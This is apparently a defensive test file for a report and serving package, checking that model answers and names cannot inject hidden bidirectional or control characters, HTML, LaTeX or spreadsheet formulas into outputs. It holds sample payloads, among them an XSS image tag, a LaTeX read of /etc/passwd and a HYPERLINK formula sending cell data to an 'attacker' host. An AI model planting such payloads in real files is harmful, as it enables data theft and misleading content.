"""Attacks by what a model answers: characters that turn a sentence round, hide a part of it, or break its line."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from types import SimpleNamespace

import pytest

from lumen_hpc.analysis import OpenRun
from lumen_hpc.cluster.stage import Run
from lumen_hpc.config.profile import Profile
from lumen_hpc.config.schema import Evaluate, Settings
from lumen_hpc.language.facts import check
from lumen_hpc.plain_text import visible
from lumen_hpc.report import assemble
from lumen_hpc.report.identity import Identity
from lumen_hpc.serving import page
from lumen_hpc.serving.ask import Reply
from tests.report import pretend

UNSEEN = {
    "right-to-left override": "\u202e", "left-to-right override": "\u202d", "embedding": "\u202b", "pop": "\u202c",
    "isolate": "\u2067", "first strong isolate": "\u2068", "end of isolate": "\u2069", "arabic mark": "\u061c",
    "right-to-left mark": "\u200f", "zero-width space": "\u200b", "zero-width joiner": "\u200d",
    "word joiner": "\u2060",
    "invisible times": "\u2062", "byte order mark": "\ufeff", "line separator": "\u2028", "paragraph": "\u2029",
    "tag letter": "\U000e0041", "end of tags": "\U000e007f", "mongolian separator": "\u180e", "annotation": "\ufffa",
    "next line": "\x85", "escape": "\x1b", "backspace": "\b", "carriage return": "\r", "delete": "\x7f",
    "8-bit escape": "\x9b", "half a character": "\ud83d",
}  # fmt: skip
ATTACK = "no effusion" + "".join(UNSEEN.values()) + "<b>|`$\\x$`=cmd()"


def attacked(text: str) -> list[str]:
    """Names of the characters that reached a reader."""
    return [name for name, character in UNSEEN.items() if character in text]


@pytest.mark.parametrize("name", UNSEEN)
def test_a_character_that_nobody_sees_is_shown(name):
    assert visible(f"a{UNSEEN[name]}b") == "a\ufffdb"


@pytest.mark.parametrize("name", [name for name, character in UNSEEN.items() if not character.isspace()])
@pytest.mark.parametrize("sentence", ["Yes, there is {}edema.", "Yes, there is ede{}ma.", "Yes, there is edema.{}"])
def test_no_sentence_with_one_is_learned(name, sentence):
    assert check("presence", "is there edema?", "yes", sentence.format("")) == []
    assert check("presence", "is there edema?", "yes", sentence.format(UNSEEN[name])) != []


def test_what_people_write_stays():
    text = "Größe 3 → 4 mm², naïve “quoted” — 胸部 ≤ ½ µm\tof\nH₂O"
    assert visible(text) == text


NAME = r"a|b_c & 50% <img src=x onerror=alert(1)> \input{/etc/passwd} $x^2$ #1 ~"
FORMULA = '=HYPERLINK("http://attacker/"&A1)'


@pytest.fixture(scope="module")
def report(tmp_path_factory) -> Path:
    """A report on answers that attack, by a judge whose folder has such a name."""
    folder = tmp_path_factory.mktemp("report")
    written = ATTACK.replace("\ud83d", "")  # a file of answers cannot hold half a character
    given = pretend.inputs(patients=3)
    answers = {m: [row | {"answer": row["answer"] + written} for row in rows] for m, rows in given.answers.items()}
    answers["nvila"] = [row | {"answer": FORMULA} for row in answers["nvila"]]
    attack = pretend.inputs(
        patients=3, answers=answers, settings={written: written}, run={"name": written}, identity=Identity(judge=NAME)
    )
    assemble.report(attack, Evaluate(bootstrap=20, permutations=20), 0, folder)
    return folder


def test_no_file_of_the_report_holds_them(report):
    """With a bidirectional override, `no effusion` reads `noisuffe on` in a browser, an editor and a pull request."""
    files = [path for path in report.rglob("*") if path.is_file() and path.suffix != ".jsonl"]
    assert {path.suffix for path in files} >= {".html", ".md", ".csv", ".tex", ".svg"}
    for path in files:
        assert attacked(path.read_text()) == [], path.name
    text = (report / "index.html").read_text()
    assert "no effusion\ufffd" in text and "<b>|" not in text


def test_a_table_for_a_spreadsheet_holds_no_formula(report):
    """A cell that begins with = + - @ is computed by a spreadsheet, unless it is a number."""
    for path in report.glob("*.csv"):
        cells = [cell for line in path.read_text().splitlines() for cell in line.split(",")]
        assert [cell for cell in cells if cell[:1] in "=+-@\t" and cell and not _is_number(cell)] == []


def test_a_name_is_no_code_in_a_table_for_latex_or_markdown(report):
    text = (report / "tables.tex").read_text()
    assert r"\textbackslash{}input\{/etc/passwd\}" in text and r"\input{" not in text
    assert r"50\%" in text and r"\$x\textasciicircum{}2\$" in text
    rows = [line for line in (report / "tables.md").read_text().splitlines() if line.startswith("|")]
    assert any(r"a\|b_c" in row for row in rows) and not any("<img" in row for row in rows)
    head, rule, *_ = rows
    assert head.replace(r"\|", "").count("|") == rule.count("|")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


class Model:
    """What the page asks: a model whose answer arrives in pieces."""

    def __init__(self, pieces: list[str]) -> None:
        self.chat = SimpleNamespace(completions=self)
        self._pieces = pieces

    async def create(self, **_):
        async def stream():
            for piece in self._pieces:
                delta = SimpleNamespace(content=piece)
                yield SimpleNamespace(choices=[SimpleNamespace(delta=delta, finish_reason="stop")])

        return stream()


@pytest.mark.parametrize("pieces", [[ATTACK], list(ATTACK)])
def test_the_page_beside_the_server_shows_none(pieces):
    asked = page.PageQuestion("diagnostic", "what?", {"main": "data:image/png;base64,"})

    async def lines() -> list[dict]:
        return [json.loads(line) async for line in page._stream_answer(Model(pieces), "lumen", asked, 8, ())]

    shown = asyncio.run(lines())
    assert attacked("".join(line.get("text", "") for line in shown)) == []
    assert attacked(shown[-1]["answer"]) == []


def test_a_printed_reply_and_a_printed_run_show_none(tmp_path):
    reply = Reply(ATTACK, "", "", cut=False)
    assert attacked(str(reply)) == [] and reply.answer == ATTACK
    assert attacked(repr(reply)) == []
    settings = Settings()
    settings.predict.models = [ATTACK]
    assert attacked(repr(OpenRun(Run(tmp_path / "run\x1b]0;x\x07", settings, Profile())))) == []
